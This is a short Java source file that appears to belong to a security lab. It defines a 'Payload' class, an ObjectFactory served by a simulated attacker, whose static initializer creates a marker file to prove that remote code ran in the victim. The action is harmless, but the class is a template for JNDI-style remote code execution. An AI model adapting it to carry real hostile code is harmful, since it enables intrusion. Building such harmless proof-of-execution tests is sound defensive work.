// SPDX-License-Identifier: GPL-2.0-or-later
// The class the laboratory's attacker serves. All it does when it is loaded is to make an empty file, whose path the
// victim was started with (-Dlab.marker=...): the file is the proof that foreign code ran.
import java.io.File;
import java.io.IOException;
import java.util.Hashtable;
import javax.naming.Context;
import javax.naming.Name;
import javax.naming.spi.ObjectFactory;

public final class Payload implements ObjectFactory {
	static {
		String marker = System.getProperty("lab.marker");

		try {
			if (marker != null)
				new File(marker).createNewFile();
		} catch (IOException e) {
			System.out.println("marker: " + e);
		}
	}

	@Override
	public Object getObjectInstance(Object reference, Name name, Context context, Hashtable<?, ?> environment) {
		return "loaded";
	}
}
